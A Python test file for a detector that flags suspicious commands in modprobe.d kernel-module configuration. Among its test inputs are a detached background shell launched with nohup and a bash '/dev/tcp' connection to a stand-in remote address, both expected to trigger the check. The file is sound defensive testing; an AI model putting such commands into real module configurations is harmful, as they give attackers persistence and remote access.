"""Commands of modprobe.d."""

import pytest

from detect.running import claims, examples
from hemostat.detect.check import Check, Example
from hemostat.detect.checks import kernel_module_commands as module
from hemostat.model.path import HostPath
from hemostat.model.records import Mechanism, Startup


@pytest.mark.parametrize(("check", "example"), examples(module))
def test_each_example_does_what_it_says(check: Check, example: Example) -> None:
    assert bool(claims(check, *example.records, context=example.context)) == example.fires


@pytest.mark.parametrize(
    ("command", "fires"),
    [
        ("/bin/true", False),
        ("/bin/false # CIS 1.1.1", False),
        ("/sbin/modprobe -i a $CMDLINE_OPTS; /bin/echo 1 > /sys/module/a/x", False),
        ("/usr/sbin/modprobe --ignore-install a && { /usr/sbin/modprobe b || true; }", False),
        ("/sbin/modprobe -i a; nohup sh -c 'x' &", True),
        ("bash -c 'cat </dev/tcp/192.0.2.1/1'", True),
    ],
)
def test_only_what_fetches_or_detaches_fires(command: str, fires: bool) -> None:
    record = Startup(
        mechanism=Mechanism.MODULE_COMMAND,
        command=command,
        place=HostPath("/etc/modprobe.d/a.conf"),
        place_state="unowned",
    )
    assert bool(claims(module.module_runs_command, record)) == fires
